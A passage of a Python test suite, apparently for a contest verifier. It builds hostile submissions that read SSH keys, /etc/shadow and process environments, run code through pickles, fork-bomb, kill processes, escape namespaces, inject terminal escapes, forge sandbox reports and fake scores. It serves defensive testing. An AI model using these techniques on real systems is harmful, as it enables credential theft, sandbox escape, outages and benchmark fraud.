    path.unlink(missing_ok=True)
    path.symlink_to(target)


@stopped_by("reader", r"artifact_seed7\.bin.*link")
def has_a_link_as_artifact(entry: Path, place: Surroundings) -> None:
    """The artifact is a link to a file outside of the folder, which need not fit."""
    outside = place.home / f"{entry.parent.name}.bin"
    shutil.move(artifact_of(entry), outside)
    link(artifact_of(entry), outside)


@stopped_by("reader", r"train_gpt\.py.*link")
def has_a_link_as_script(entry: Path, place: Surroundings) -> None:
    """The script is a link to a file outside of the folder."""
    outside = place.home / f"{entry.parent.name}.py"
    shutil.move(entry / "train_gpt.py", outside)
    link(entry / "train_gpt.py", outside)


@stopped_by("reader", r"results\.json.*link")
def has_a_link_as_results(entry: Path, place: Surroundings) -> None:
    """results.json is a link to the verifier's key, which an error would show."""
    link(entry / "results.json", place.home / ".ssh" / "id")


@stopped_by("reader", r"per_document\.npz.*link")
def has_a_link_as_sums_by_document(entry: Path, place: Surroundings) -> None:
    """per_document.npz is a link to a device without end."""
    link(entry / "per_document.npz", "/dev/zero")


@stopped_by("reader", r"artifact_seed7\.bin.*regular")
def has_a_pipe_as_artifact(entry: Path, place: Surroundings) -> None:
    """Opening the artifact waits for ever."""
    artifact_of(entry).unlink()
    os.mkfifo(artifact_of(entry))


@stopped_by("reader", r"results\.json.*regular")
def has_a_pipe_as_results(entry: Path, place: Surroundings) -> None:
    """Opening results.json waits for ever."""
    (entry / "results.json").unlink()
    os.mkfifo(entry / "results.json")


@stopped_by("reader", r"results\.json.*bytes")
def has_results_without_end(entry: Path, place: Surroundings) -> None:
    """results.json is a sparse file of a terabyte."""
    os.truncate(entry / "results.json", 1 << 40)


@stopped_by("reader", r"artifact_seed7\.bin.*bytes")
def has_an_artifact_without_end(entry: Path, place: Surroundings) -> None:
    """The artifact is a sparse file of a terabyte, whose hash takes an hour."""
    os.truncate(artifact_of(entry), 1 << 40)


@stopped_by("reader", r"given twice")
def has_a_key_twice(entry: Path, place: Surroundings) -> None:
    """One reader takes the first val_bpb, another one the last."""
    path = entry / "submission.json"
    path.write_text(path.read_text().replace("{", '{"val_bpb": 0.9, ', 1))


@stopped_by("reader", r"no number of JSON|not readable")
def states_nan(entry: Path, place: Surroundings) -> None:
    """NaN differs from nothing by more than a tolerance."""
    path = entry / "results.json"
    path.write_text(re.sub(r'"nats": [\d.]+', '"nats": NaN', path.read_text()))


@stopped_by("reader", r"nothing scores that|type|Expected")
def states_a_negative_score(entry: Path, place: Surroundings) -> None:
    """Fewer nats than none."""
    path = entry / "results.json"
    path.write_text(re.sub(r'"nats": [\d.]+', '"nats": -1.0', path.read_text()))


@stopped_by("reader", r"levels deep|recursion|not readable")
def nests_its_results_deeply(entry: Path, place: Surroundings) -> None:
    """A recursive reader of results.json runs out of stack."""
    (entry / "results.json").write_text('{"seeds": ' * 50_000 + "1" + "}" * 50_000)


@stopped_by("reader", r"format is .*expected")
def steers_the_terminal_with_its_results(entry: Path, place: Surroundings) -> None:
    """Error messages that quote results.json would clear the screen and write 'verified'."""
    restate_json(entry, "results.json", format="\x1b[2J\x1b[Hverified\u202e")


@stopped_by("reader", r"per_document\.npz.*(claims|no arrays)")
def has_a_bomb_of_arrays(entry: Path, place: Surroundings) -> None:
    """per_document.npz of 300 KB holds 300 MB."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("tokens.npy", bytes(300 << 20))
    (entry / "per_document.npz").write_bytes(file.getvalue())


@stopped_by("reader", r"per_document\.npz.*(object|no arrays|shape)")
def has_a_pickle_among_its_arrays(entry: Path, place: Surroundings) -> None:
    """Loading per_document.npz with pickles allowed would run code."""

    class Runs:
        def __reduce__(self) -> tuple[Any, ...]:
            return os.system, (f"touch {place.home}/{place.marker}",)

    np.savez(entry / "per_document.npz", tokens=np.array([Runs()], dtype=object), allow_pickle=True)


@stopped_by("reader", r"no stage|stages are|stage")
def scores_stages_of_other_names(entry: Path, place: Surroundings) -> None:
    """Its script gives its figures under names that nothing compares."""
    replay(entry, place, 'FIGURES["stages"][0]["name"] = "best"')


@stopped_by("reader", r"figures\.json")
def writes_no_figures(entry: Path, place: Surroundings) -> None:
    """Ends well, without figures: nothing could differ."""
    replay(entry, place, ending="")


def instead_of_figures(call: str) -> str:
    """The end of a script that puts something else in the place of its figures."""
    return f"finish()\noption('--json').unlink()\noption('--json').{call}"


@stopped_by("reader", r"figures\.json")
def writes_its_figures_as_a_link(entry: Path, place: Surroundings) -> None:
    """figures.json is a link to the verifier's key, which an error would show."""
    replay(
        entry,
        place,
        ending=instead_of_figures("symlink_to(SECRET_PLACE / '.ssh' / 'id')"),
    )


@stopped_by("reader", r"figures\.json")
def writes_its_figures_as_a_folder(entry: Path, place: Surroundings) -> None:
    """figures.json is a folder."""
    replay(entry, place, ending=instead_of_figures("mkdir()"))


@stopped_by("reader", r"figures\.json")
def writes_its_figures_as_a_pipe(entry: Path, place: Surroundings) -> None:
    """figures.json is a pipe: reading it waits for ever."""
    replay(entry, place, ending=instead_of_figures("with_suffix('.pipe')") + "\nos.mkfifo(option('--json'))")


@stopped_by("reader", r"figures\.json")
def writes_giant_figures(entry: Path, place: Surroundings) -> None:
    """figures.json has 40 MB."""
    replay(entry, place, 'FIGURES["environment"]["more"] = "x" * 40_000_000')


@stopped_by("reader", r"figures\.json.*(levels|recursion|readable)")
def nests_its_figures_deeply(entry: Path, place: Surroundings) -> None:
    """figures.json is 100,000 lists deep."""
    replay(entry, place, ending="finish()\noption('--json').write_text('[' * 100_000)")


@stopped_by("reader", r"figures\.json.*(number|readable)")
def writes_infinite_figures(entry: Path, place: Surroundings) -> None:
    """Its figures are NaN, which no comparison calls larger."""
    replay(entry, place, 'FIGURES["stages"][0]["tally"]["nats"] = float("nan")')


@stopped_by("reader", r"documents\.npz")
def writes_its_documents_as_a_link(entry: Path, place: Surroundings) -> None:
    """documents.npz is a link to a device without end."""
    ending = "finish()\noption('--per-document').unlink()\noption('--per-document').symlink_to('/dev/zero')"
    replay(entry, place, ending=ending)


@stopped_by("reader", r"documents\.npz")
def writes_a_pickle_as_documents(entry: Path, place: Surroundings) -> None:
    """documents.npz is a pickle that runs code where it is loaded."""
    pickled = f"csystem\n(S'touch {place.home}/{place.marker}'\ntR.".replace(
        "csystem", "cos\nsystem"
    ).encode()
    replay(entry, place, f"DOCUMENTS = {pickled!r}")


# What a script does to the machine.


def tries(body: str) -> Callable[[Path, Surroundings], None]:
    """The builder of an entry whose script attempts `body` and states the truth."""

    def build_it(entry: Path, place: Surroundings) -> None:
        replay(entry, place, body)

    return build_it


def stopped_by_cage(name: str, what: str, words: str, body: str) -> None:
    """Puts an entry whose script does `body` into HOSTILE."""
    builder = tries(body)
    builder.__doc__, builder.__name__ = what, name
    stopped_by("cage", words)(builder)


REFUSED = r"\w*Error"

stopped_by_cage(
    "reads the environment",
    "Its variables hold a token.",
    r"'token': .KeyError",
    """
attempt("token", lambda: os.environ["GOLF_TOKEN"])
TRIED["environment"] = str(dict(os.environ))
print(dict(os.environ))
""",
)
stopped_by_cage(
    "reads other processes",
    "The verifier's environment, command line and memory stand in /proc.",
    REFUSED,
    """
for name in ("mem", "root/etc/shadow"):
    attempt(f"parent {name}", lambda: open(f"/proc/{os.getppid()}/{name}", "rb").read(1))
for pid in [each for each in os.listdir("/proc") if each.isdigit()]:
    with suppress(OSError):
        for name in ("environ", "cmdline"):
            TRIED[f"{name} of {pid}"] = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
""",
)
stopped_by_cage(
    "reads the home folder",
    "Reads keys in the verifier's home, by its path and by ~.",
    REFUSED,
    """
attempt("key", lambda: (SECRET_PLACE / ".ssh" / "id").read_text())
attempt("home", lambda: (pathlib.Path.home() / ".ssh" / "id").read_text())
attempt("listing", lambda: os.listdir(SECRET_PLACE)[0])
attempt("root", lambda: open("/root/.profile").read())
""",
)
stopped_by_cage(
    "reads the password file",
    "Reads /etc/shadow.",
    REFUSED,
    'attempt("shadow", lambda: open("/etc/shadow").read())',
)
stopped_by_cage(
    "reads open files it inherits",
    "A descriptor of the verifier's secrets is open.",
    r"'own': '0'|descriptors",
    """
TRIED["descriptors"] = "only its own"
for number in range(3, 64):
    with suppress(OSError):
        TRIED[f"descriptor {number}"] = os.pread(number, 99, 0).decode(errors="replace")
""",
)
stopped_by_cage(
    "reads another text outside",
    "Looks for other data folders, to score on an easier text.",
    REFUSED,
    'attempt("text", lambda: (SECRET_PLACE / "more text" / "manifest.json").read_bytes())',
)
stopped_by_cage(
    "asks the terminal",
    "Waits for input, or types commands into the verifier's terminal.",
    r"stdin.*''",
    """
TRIED["stdin"] = repr(sys.stdin.read(1))
attempt("terminal", lambda: open("/dev/tty", "w").write("x"))
attempt("typing", lambda: fcntl.ioctl(0, 0x5412, b"x"))
""",
)
stopped_by_cage(
    "writes into the home folder",
    "Leaves a file, and a line for each shell.",
    REFUSED,
    """
attempt("home", lambda: (SECRET_PLACE / MARKER).write_text("x"))
attempt("shell", lambda: (SECRET_PLACE / ".ssh" / "id").write_text("x"))
with suppress(OSError):
    (pathlib.Path.home() / MARKER).write_text("x")
""",
)
stopped_by_cage(
    "writes into the libraries",
    "Leaves a .pth file that runs in the verifier's next process.",
    REFUSED,
    """
for folder in {sys.prefix, *sys.path} - {os.getcwd(), ""}:
    if os.path.isdir(folder):
        attempt(folder, lambda: open(os.path.join(folder, MARKER + ".pth"), "w").write(""))
attempt("torch", lambda: open(__import__("importlib.util").util.find_spec("torch").origin, "a").close())
""",
)
stopped_by_cage(
    "changes the text",
    "Overwrites the validation text, so that all later scores are of another.",
    REFUSED,
    """
for path in (*DATA.iterdir(), *option("--data").iterdir()):
    attempt(path.name, lambda: open(path, "r+b").close())
    attempt(f"no {path.name}", lambda: path.unlink())
attempt("new", lambda: (option("--data") / MARKER).write_text("x"))
""",
)
stopped_by_cage(
    "changes the entry",
    "Writes another script and results into the folder that is verified.",
    REFUSED,
    """
for name in ("results.json", "train_gpt.py", "submission.json"):
    attempt(name, lambda: open(f"{ENTRY}/{name}", "r+b").close())
""",
)
stopped_by_cage(
    "changes its own artifact and script",
    "Once started it puts another artifact and script in their places.",
    r"",
    """
for path in (pathlib.Path(sys.argv[0]), option("--score")):
    with suppress(OSError):
        path.chmod(0o600)
    with suppress(OSError):
        path.write_bytes(b"another")
attempt("entry", lambda: open(f"{ENTRY}/artifact_seed7.bin", "r+b").close())
""",
)
stopped_by_cage(
    "writes into temporary folders",
    "Leaves files in /tmp, /var/tmp and shared memory.",
    r"",
    """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(ENTRY)):
    with suppress(OSError):
        pathlib.Path(folder, MARKER).write_text("x")
""",
)
stopped_by_cage(
    "phones loopback",
    "Sends bytes to a server on this machine, by TCP, UDP and a socket without a file.",
    REFUSED,
    """
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", PORT), 2))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + MARKER))
attempt("interfaces", lambda: [name for _, name in socket.if_nameindex() if name != "lo"][0])
""",
)
stopped_by_cage(
    "phones out",
    "Sends bytes to the internet.",
    REFUSED,
    """
attempt("address", lambda: socket.create_connection(("1.1.1.1", 53), 2))
attempt("name", lambda: socket.getaddrinfo("example.org", 80))
""",
)
stopped_by_cage(
    "forks a daemon",
    "Leaves a process of its own session behind.",
    r"",
    """
command = [sys.executable, "-I", "-c", "import time; time.sleep(60)", MARKER]
nothing = subprocess.DEVNULL
subprocess.Popen(command, start_new_session=True, stdin=nothing, stdout=nothing, stderr=nothing)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(1), os.close(2)
        os.execv(sys.executable, command)
    os._exit(0)
""",
)
stopped_by_cage(
    "kills whom it can",
    "Sends signals to its parent and to every process.",
    r"ended with|killed|signal|",
    """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
with suppress(OSError):
    os.kill(os.getppid(), signal.SIGTERM)
with suppress(OSError):
    os.kill(-1, signal.SIGTERM)
""",
)
stopped_by_cage(
    "forks without end",
    "Starts processes until the machine has no more.",
    r"processes|memory",
    """
children = []
def fork():
    # A bound for the machine of who runs this without a cage.
    for _ in range(3000):
        child = os.fork()
        if child == 0:
            time.sleep(30)
            os._exit(0)
        children.append(child)
attempt("forks", fork)
for child in children:
    os.kill(child, signal.SIGKILL)
TRIED["processes"] = str(len(children))
""",
)
stopped_by_cage(
    "fills the memory",
    "Takes memory until the machine has no more.",
    r"memory",
    """
taken = []
def take():
    # A bound for the machine of who runs this without a cage.
    for _ in range(64):
        taken.append(b"x" * (64 << 20))
attempt("memory", take)
TRIED["taken"] = f"{len(taken)} of 64"
if len(taken) == 64:
    TRIED["memory"] = "got all"
""",
)
stopped_by_cage(
    "fills memory that no process has",
    "Files in memory without a name are in no process's account.",
    r"memory",
    """
taken, block = [], b"x" * (64 << 20)
def take():
    # A bound for the machine of who runs this without a cage.
    for number in range(40):
        file = os.memfd_create(str(number))
        os.write(file, block[: 48 << 20])
        taken.append(file)
        time.sleep(0.02)
attempt("memory", take)
if len(taken) == 40:
    TRIED["files"] = "got all"
""",
)
stopped_by_cage(
    "fills the disk",
    "Writes files until the disk is full.",
    REFUSED + r"|ended with|limit",
    """
def fill(folder):
    with open(os.path.join(folder, MARKER), "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 256 << 30)
for folder in (".", "/tmp", "/dev/shm"):
    attempt(folder, lambda: fill(folder))
def spread():
    for number in range(64):
        with open(f"part{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 4 << 20)
attempt("in parts", spread)
for number in range(64):
    with suppress(OSError):
        os.remove(f"part{number}")
""",
)
stopped_by_cage(
    "writes many files",
    "Takes every inode of the disk.",
    r"",
    """
with suppress(OSError):
    for number in range(20_000):
        open(f"/tmp/{MARKER}{number}", "w").close()
""",
)
stopped_by_cage(
    "prints without end",
    "Prints a gigabyte on one line.",
    r"output|bytes|ended",
    """
for _ in range(1024):
    os.write(1, b"x" * (1 << 20))
""",
)
stopped_by_cage(
    "steers the terminal",
    "Its last words clear the screen and say that all agrees.",
    r"ended with 1: .*56 of 56",
    r"""
print("\x1b[2J\x1b[H 56 of 56 stated figures agree")
sys.exit("\x1b[2J\x1b[H\x1b]0;owned\x07 56 of 56 stated figures agree\u202e")
""",
)
stopped_by_cage(
    "never ends",
    "Sleeps, and does not listen to SIGTERM.",
    r"longer than",
    """
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
time.sleep(600)
""",
)
stopped_by_cage(
    "computes without end",
    "Computes in many processes for ever.",
    r"longer than",
    """
for _ in range(3):
    os.fork()
while True:
    pass
""",
)
stopped_by_cage(
    "opens another cage",
    "Makes namespaces of its own, in which it is root, and mounts what it likes.",
    r"",
    """
libc = ctypes.CDLL(None, use_errno=True)
def mount(source, target, kind, flags):
    with suppress(OSError):
        os.mkdir("mounted")
    libc.mount(source, target, kind, flags, None)
def unlock(where):
    mount(b"/", b"mounted", None, 4096 | 16384)
    mount(None, b"/", None, 32 | 4096)
    mount(None, b"/proc", None, 32 | 4096)
    mount(None, str(option("--data")).encode(), None, 32 | 4096)
    attempt(where + "text", lambda: open(next(option("--data").iterdir()), "r+b").close())
    attempt(where + "key", lambda: (SECRET_PLACE / ".ssh" / "id").read_text())
    attempt(where + "mounted key", lambda: open("mounted" + str(SECRET_PLACE / ".ssh" / "id")).read())
    attempt(where + "kernel", lambda: open("/proc/sys/kernel/core_pattern", "wb").close())
unlock("")
TRIED["namespaces"] = str(libc.unshare(0x10000000 | 0x00020000 | 0x20000000))
read_end, write_end = os.pipe()
if os.fork() == 0:
    unlock("inside ")
    mount(b"proc", b"mounted", b"proc", 0)
    attempt("own kernel", lambda: open("mounted/sys/kernel/core_pattern", "wb").close())
    os.write(write_end, json.dumps(TRIED).encode())
    os._exit(0)
os.wait()
TRIED |= json.loads(os.read(read_end, 1 << 16))
""",
)
stopped_by_cage(
    "changes settings of the kernel",
    "What the kernel runs for a crash, and more, is set by files in /proc that belong to root.",
    r"Read-only|Permission denied|No such file",
    """
for name in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "kernel/hostname"):
    attempt(name, lambda: os.close(os.open("/proc/sys/" + name, os.O_WRONLY)))
for name in ("sysrq-trigger", "irq/default_smp_affinity", "kcore", "kmsg", "1/root/etc/shadow"):
    attempt(name, lambda: os.close(os.open("/proc/" + name, os.O_RDWR)))
""",
)
stopped_by_cage(
    "reads the keyring",
    "Keys of the verifier's session are inherited by its processes.",
    r"'found': '-1'",
    """
libc, keyctl = ctypes.CDLL(None, use_errno=True), {"x86_64": 250, "aarch64": 219}[os.uname().machine]
buffer = ctypes.create_string_buffer(200)
found = libc.syscall(keyctl, 10, -3, b"user", MARKER.encode(), 0)
TRIED["found"] = str(found)
for key in (found, *range(-8, 0)):
    if libc.syscall(keyctl, 11, key, buffer, 200) > 0:
        TRIED[f"key {key}"] = buffer.raw.decode(errors="replace")
""",
)
stopped_by_cage(
    "makes files that belong to root",
    "Leaves a program in its folder that runs with the rights of its owner.",
    r"",
    """
with suppress(OSError):
    pathlib.Path(MARKER).write_text("#!/bin/sh")
    os.chmod(MARKER, 0o4755)
with suppress(OSError):
    os.mknod(MARKER + "disk", 0o60666, os.makedev(8, 0))
attempt("disk", lambda: open(MARKER + "disk", "rb").read(1))
""",
)
stopped_by_cage(
    "forges the report of its cage",
    "Writes into the pipes of the processes around it: another exit code, files of other names and sizes.",
    r"",
    """
report = json.dumps({"returncode": 0, "files": [["../" + MARKER, 4], ["figures.json", 1 << 60]]}).encode()
for pid in [each for each in os.listdir("/proc") if each.isdigit() and int(each) != os.getpid()]:
    for number in range(3, 20):
        with suppress(OSError):
            with open(f"/proc/{pid}/fd/{number}", "wb", 0) as pipe:
                TRIED[f"pipe {number} of {pid}"] = str(pipe.write(report + b"\\nxxxx"))
""",
)
stopped_by_cage("crashes", "Ends by a signal.", r"ended with|signal", "os.kill(os.getpid(), signal.SIGSEGV)")


@stopped_by("cage", r"ModuleNotFoundError|No module named 'side'")
def hides_code_in_a_module_beside_it(entry: Path, place: Surroundings) -> None:
    """The code that counts is in side.py, which nobody counted."""
    (entry / "side.py").write_text("WEIGHTS = 1\n" * 1000)
    replay(entry, place, "sys.path.insert(0, '.')\nimport side")


@stopped_by("cage", r"FileNotFoundError|No such file")
def hides_a_payload_in_its_readme(entry: Path, place: Surroundings) -> None:
    """The script unpacks weights from README.md."""
    with open(entry / "README.md", "a") as file:
        file.write(f"\n<!-- {base64.b85encode(bytes(99)).decode()} -->\n")
    replay(entry, place, "pathlib.Path('README.md').read_text()")


@stopped_by("cage", r"FileNotFoundError|No such file")
def hides_a_payload_in_its_log(entry: Path, place: Surroundings) -> None:
    """The script unpacks weights from the log of training."""
    replay(entry, place, f"pathlib.Path('train_seed{SEED}.log').read_text()")


@stopped_by("cage", r"FileNotFoundError|No such file")
def hides_a_payload_in_its_sums_by_document(entry: Path, place: Surroundings) -> None:
    """The script reads what it has to state from per_document.npz."""
    replay(entry, place, "pathlib.Path('per_document.npz').read_bytes()")


@stopped_by("cage", r"FileNotFoundError|No such file")
def reads_the_figures_it_has_to_state(entry: Path, place: Surroundings) -> None:
    """The script copies its figures from results.json."""
    replay(entry, place, "pathlib.Path('results.json').read_text()")


@stopped_by("cage", r"'loaded': 'None'")
def brings_modules_in_the_names_of_others(entry: Path, place: Surroundings) -> None:
    """torch.py, numpy.py, sitecustomize.py and golf/ beside the script stand for the verifier's own."""
    for name in ("torch.py", "numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "evil.pth"):
        text = "import sys; sys.loaded_beside = True\n"
        (entry / name).write_text(text)
    (entry / "golf").mkdir()
    (entry / "golf" / "__init__.py").write_text("raise SystemExit('owned')\n")
    replay(entry, place, 'TRIED["loaded"] = str(getattr(sys, "loaded_beside", None))')


# What the files alone show.


def as_record(entry: Path) -> Path:
    """Makes the folder a sound public record of three seeds on the track with limits."""
    shutil.rmtree(entry)
    make_record(entry.parent / "made").rename(entry)
    return entry


@stopped_by("check", r"train-over-budget")
def states_a_time_beyond_the_limit(entry: Path, place: Surroundings) -> None:
    """Its logs train for 640 seconds."""
    rewrite_logs(as_record(entry), train_ms=640_000)


@stopped_by("check", r"seed-twice|log-copy|seed-missing|seed-name")
def copies_one_log_as_three_seeds(entry: Path, place: Surroundings) -> None:
    """Three logs, of one run."""
    folder = as_record(entry)
    for seed in (314, 999):
        shutil.copyfile(folder / "train_seed42.log", folder / f"train_seed{seed}.log")


@stopped_by("check", r"score-unsupported")
def claims_a_score_that_its_logs_do_not_have(entry: Path, place: Surroundings) -> None:
    """submission.json states 0.9, the logs 1.08."""
    write_json(as_record(entry), val_bpb=0.9)


@stopped_by("check", r"size-over-limit")
def says_that_17_mb_fit(entry: Path, place: Surroundings) -> None:
    """Its logs print a total over the limit."""
    folder = as_record(entry)
    for path in folder.glob("*.log"):
        path.write_text(re.sub(r"15(9\d{5}|9\d{2}\d{3})", r"17\1", path.read_text()))


@stopped_by("check", r"\\x1b\[2J")
def writes_escape_codes_into_its_log(entry: Path, place: Surroundings) -> None:
    """Quoting the log clears the screen."""
    folder = as_record(entry)
    path = folder / "train_seed42.log"
    path.write_text(
        path.read_text()
        .replace("quantized_ttt", "\x1b[2J\x1b[H\u202equantized_ttt")
        .replace("1.080", "1.0\x1b[2J80")
    )


@stopped_by("check", r"is a link; it was not followed")
def has_a_link_as_log(entry: Path, place: Surroundings) -> None:
    """Its log is a link to the verifier's key."""
    link(as_record(entry) / "train_seed42.log", place.home / ".ssh" / "id")


@stopped_by("check", r"network")
def downloads_in_its_script(entry: Path, place: Surroundings) -> None:
    """The script fetches its weights."""
    folder = as_record(entry)
    text = "import urllib.request\nurllib.request.urlretrieve('https://example.org/w.bin', 'w.bin')\n"
    (folder / "train_gpt.py").write_bytes((folder / "train_gpt.py").read_bytes() + text.encode())


# Scorers that break the rules, for an audit of them.


class PeekingScorer(ArtifactScorer):
    """Starts each scoring with weights that have learned from the same stream."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        sound = self._weights
        super().__call__(tokens, [])
        self._weights = {name: weight.clone() for name, weight in self.scoring.model.state_dict().items()}
        try:
            return super().__call__(tokens, targets)
        finally:
            self._weights = sound


class SortingScorer(ArtifactScorer):
    """Grades and learns from the documents in the order of how hard they are."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        plain, bos_id = ArtifactScorer(self.scoring, None, self.chunk_tokens), self.scoring.vocabulary.bos_id
        self.scoring.model.load_state_dict(self._weights)
        nats_N = plain(tokens, []).nats_N
        spans = split_documents(tokens, len(tokens) - 1, bos_id)
        spans.sort(key=lambda span: nats_N[span.start : span.end].mean())
        places_N = np.concatenate([np.arange(span.start, span.end) for span in spans])
        stream = np.append(tokens[places_N], tokens[-1:])
        wanted = np.flatnonzero(np.isin(places_N, list(targets))).tolist()
        replay = super().__call__(stream, wanted)
        sorted_N = np.full(len(places_N), np.nan, dtype=np.float32)
        sorted_N[places_N[: len(replay.nats_N)]] = replay.nats_N
        logs = {int(places_N[place]): log_probs for place, log_probs in replay.log_probs.items()}
        return Replay(sorted_N, logs, replay.ledger)


class CheapScorer(ArtifactScorer):
    """Grades each target at nine tenths of its nats, and shows a sound distribution."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        replay = super().__call__(tokens, targets)
        return replace(replay, nats_N=0.9 * replay.nats_N)


class GenerousScorer(ArtifactScorer):
    """Gives each token a tenth more than its probability: they add up to 1.1."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        replay, gift = super().__call__(tokens, targets), np.log(1.1)
        logs = {target: log_probs + gift for target, log_probs in replay.log_probs.items()}
        return replace(replay, nats_N=replay.nats_N - gift, log_probs=logs)


class TargetScorer(ArtifactScorer):
    """Sharpens the distributions of even targets, which it has to read for that."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        replay = super().__call__(tokens, targets)
        golds = tokens[1 : len(replay.nats_N) + 1]
        nats_N = np.where(golds % 2 == 0, 0.5 * replay.nats_N, replay.nats_N)
        logs = dict(replay.log_probs)
        for target, log_probs in logs.items():
            gold = int(tokens[target + 1])
            if gold % 2 == 0:
                rest = 1 - np.exp(log_probs[gold])
                raised = np.exp(0.5 * log_probs[gold])
                logs[target] = log_probs + np.log((1 - raised) / rest)
                logs[target][gold] = 0.5 * log_probs[gold]
        return replace(replay, nats_N=nats_N, log_probs=logs)


class ForgettingScorer(ArtifactScorer):
    """Leaves the last targets of a whole stream ungraded."""

    def __call__(self, tokens: np.ndarray, targets: Sequence[int]) -> Replay:
        """As ArtifactScorer's."""
        replay = super().__call__(tokens, targets)
        return replay if targets else replace(replay, nats_N=replay.nats_N[:-5])


SCORERS: dict[type[ArtifactScorer], tuple[str, str]] = {
    PeekingScorer: ("test-time training", "causality"),
    SortingScorer: ("test-time training", "causality"),
    CheapScorer: ("sliding windows", "normalisation"),
    GenerousScorer: ("sliding windows", "normalisation"),
    TargetScorer: ("sliding windows", "causality"),
    ForgettingScorer: ("sliding windows", "ledger"),
}
"""With the scorer and the probe that must find it; each stands for an entry of a fork that scores so."""


# Honest relatives.


def rescript(entry: Path, body: str = "", ending: str = "finish()") -> None:
    """Another script for an entry whose figures stay."""
    replay(entry, None, body, ending)


@honest
def is_as_it_was_made(entry: Path, place: Surroundings) -> None:
    """The entry that all are made of."""


@honest
def takes_its_time(entry: Path, place: Surroundings) -> None:
    """Its script needs two seconds."""
    rescript(entry, "time.sleep(2)")


@honest
def writes_files_of_its_own(entry: Path, place: Surroundings) -> None:
    """Its script writes logs, a cache and temporary files in its own places."""
    body = """
import tempfile
os.makedirs("logs")
pathlib.Path("logs", "score.txt").write_text("x" * 100_000)
with tempfile.NamedTemporaryFile() as file:
    file.write(b"x" * 1_000_000)
pathlib.Path(os.environ.get("HOME", "."), ".cache").mkdir(exist_ok=True)
"""
    rescript(entry, body)


@honest
def prints_much(entry: Path, place: Surroundings) -> None:
    """Its script prints 200 KB, and warnings."""
    rescript(
        entry,
        "for n in range(5000):\n    print('step', n, 'loss 1.23456789')\nsys.stderr.write('warning: slow')",
    )


@honest
def works_in_several_processes(entry: Path, place: Surroundings) -> None:
    """Its script starts another process and threads, as torch does to compile."""
    body = """
import threading
subprocess.run([sys.executable, "-c", "print(1)"], check=True)
threads = [threading.Thread(target=time.sleep, args=(0.1,)) for _ in range(8)]
for each in threads:
    each.start()
for each in threads:
    each.join()
"""
    rescript(entry, body)


@honest
def has_text_of_all_kinds(entry: Path, place: Surroundings) -> None:
    """Its author, README, log and output are not of ASCII."""
    restate_json(entry, "submission.json", author="Zoë 你好 🙂", name="Größe")
    with open(entry / f"train_seed{SEED}.log", "a", encoding="utf-8") as file:
        file.write("β 🏁 fertig\n")
    rescript(entry, "sys.stdout.reconfigure(encoding='utf-8')\nprint('β 🏁 fertig')")


@honest
def has_more_in_its_figures(entry: Path, place: Surroundings) -> None:
    """Its script and its JSON files say more than anybody reads."""
    restate_json(entry, "submission.json", comment="more", extra={"a": [1, 2, 3]})
    rescript(entry, 'FIGURES["more"] = {"by layer": [0.1] * 1000}')


@honest
def differs_in_its_last_digits(entry: Path, place: Surroundings) -> None:
    """Its machine adds in another order: 2e-7 bits per byte."""
    rescript(entry, "for stage in FIGURES['stages']:\n    stage['tally']['nats'] *= 1 + 5e-8")


@honest
def was_scored_in_another_dtype(entry: Path, place: Surroundings) -> None:
    """Scored in bfloat16 on a GPU: 2e-4 bits per byte from the score of a CPU."""
    run = read_entry_results(entry / "results.json")[SEED]
    tallies = {stage.name: stage.tally for stage in (run.quantized, run.final)}
    state_nats(entry, {name: t.nats * (1 + 2e-4 / t.bits_per_byte) for name, t in tallies.items()})
    agree(entry, scores__compute_dtype="bfloat16", environment__device="cuda")


@functools.cache
def whole_script(model: str, packed: bool) -> bytes:
    """The script of an entry with a network, given as JSON: all of the project that it needs, in one file."""
    script = entry_script(small_run(json.loads(model)))
    return pack_script(script) if packed else script.encode()


def small_run(model: dict[str, Any]) -> RunConfig:
    """The configuration of a run with that network."""
    ttt = TTTConfig(chunk_tokens=96, batch_sequences=2, learning_rate=0.05)
    return RunConfig(model=config_from_dict(ModelConfig, model), score=WindowConfig(stride=8), ttt=ttt)


def scores_by_itself(entry: Path, place: Surroundings, packed: bool) -> None:
    """Gives the entry a script that decodes and scores the artifact, as a run's is."""
    header, payload = read_container(artifact_of(entry).read_bytes())
    own = artifact_header(small_run(header["model"]), torch.float32, header["tokenizer_sha256"])
    artifact_of(entry).write_bytes(write_container({**header, **own}, bytes(payload)))
    restate_on(entry, place, place.data)
    (entry / "train_gpt.py").write_bytes(whole_script(json.dumps(own["model"]), packed))
    agree(entry)


@honest
def scores_with_the_whole_project_in_one_file(entry: Path, place: Surroundings) -> None:
    """Its script is the one that a run writes, and does all the work again."""
    scores_by_itself(entry, place, packed=False)


@honest
def unpacks_its_script(entry: Path, place: Surroundings) -> None:
    """The same script, compressed, which unpacks and runs itself."""
    scores_by_itself(entry, place, packed=True)


@honest
def has_two_seeds(entry: Path, place: Surroundings) -> None:
    """Two runs, each with its own artifact and its own figures."""
    shutil.rmtree(entry)
    shutil.move(make_true_entry(entry.parent / "two", place.data, (SEED, 8)), entry)
    replay(entry)


@honest
def has_results_of_the_first_version(entry: Path, place: Surroundings) -> None:
    """Its results.json was written before the present schema."""
    path = entry / "results.json"
    results = json.loads(path.read_text())
